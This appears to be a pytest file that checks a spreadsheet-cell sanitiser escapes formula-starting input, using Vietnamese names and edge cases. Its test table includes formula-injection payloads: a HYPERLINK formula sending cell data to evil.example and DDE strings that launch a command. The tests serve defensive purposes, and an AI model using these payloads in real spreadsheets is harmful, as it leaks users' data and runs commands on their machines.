"""Users' text in spreadsheet cells: a table of what people (or attackers) type."""
from __future__ import annotations

import pytest

from data.cell_text import spreadsheet_text


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("Nguyễn Văn An", "Nguyễn Văn An"),
        ('=HYPERLINK("http://evil.example/?d="&A1,"Xem")', '\'=HYPERLINK("http://evil.example/?d="&A1,"Xem")'),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Đi họp = được phép", "Đi họp = được phép"),  # only the first character can start a formula
        ("'đã có nháy", "'đã có nháy"),
        ("", ""),
    ],
)
def test_formula_starts_are_neutralised(typed, written):
    assert spreadsheet_text(typed) == written
